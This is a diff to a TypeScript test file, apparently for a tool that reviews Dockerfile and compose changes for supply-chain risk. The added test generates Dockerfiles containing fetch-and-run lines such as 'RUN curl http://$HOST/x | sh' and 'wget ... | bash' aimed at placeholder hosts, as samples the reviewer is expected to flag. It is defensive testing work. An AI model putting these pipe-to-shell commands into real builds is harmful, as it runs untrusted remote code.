@@ -275,6 +275,51 @@ test('a build of another stage takes nothing out of the review', async () => {
   }
 });
 
+/** Ways in which somebody gives other values to arguments, which publish nothing. */
+const givings: readonly ((chance: Chance, given: string) => Files)[] = [
+  (chance, given) => ({
+    [chance.pick(['compose.dev.yml', 'docker-compose.test.yaml', '.devcontainer/compose.yaml'])]: argsIn(chance, given),
+  }),
+  (chance, given) => ({ [mainOf(chance)]: argsIn(chance, given) }),
+  (chance, given) => ({
+    'docker-bake.hcl': `target "${chance.pick(['dev', 'app-test'])}" {\n  args = { HOST = "${given}" }\n}\n`,
+  }),
+];
+
+function argsIn(chance: Chance, given: string): string {
+  return chance.pick([
+    `services:\n  app:\n    build:\n      context: CONTEXT\n      args:\n        HOST: ${given}\n`,
+    `services:\n  app:\n    build: { context: CONTEXT, args: ["HOST=${given}"] }\n`,
+  ]);
+}
+
+test('a build that gives other arguments takes no default out of the review', async () => {
+  const chance = new Chance(33);
+  for (let i = 0; i < runs; i++) {
+    const host = chance.pick(['192.0.2.7', 'cdn.example', 'x.example:8080']);
+    const script = chance.pick([
+      `RUN curl http://$HOST/x | sh`,
+      `RUN wget -qO- http://\${HOST}/x | bash`,
+      `ADD http://$HOST/x /x`,
+    ]);
+    const written = (more: string) => `FROM debian:12.1\nARG HOST${more}\n${good.join('\n')}\n`;
+    const before = written('=files.example');
+    const after = `${written(`=${host}`)}${script}\n`;
+    const [path, text] = Object.entries(chance.pick(givings)(chance, chance.pick(['localhost', '127.0.0.1'])))[0]!;
+    const other = { [path]: text.replace('CONTEXT', path.includes('/') ? '..' : '.') };
+    // Where it was merged long before, a build for developers is one besides.
+    const old = !/^(?:docker-)?compose\.ya?ml$/.test(path) && chance.is(0.5) ? other : {};
+    const told = introduced(
+      await reviewed([
+        { Dockerfile: before, ...old },
+        { Dockerfile: after, ...other },
+      ]),
+    );
+    for (const each of introduced(await reviewed([{ Dockerfile: before }, { Dockerfile: after }])))
+      assert.ok(told.includes(each), `${each}: ${described([{}, { ...other, Dockerfile: after }])}`);
+  }
+});
+
 const workflowPath = '.github/workflows/release.yml';
 
 function job(steps: string, more = ''): string {
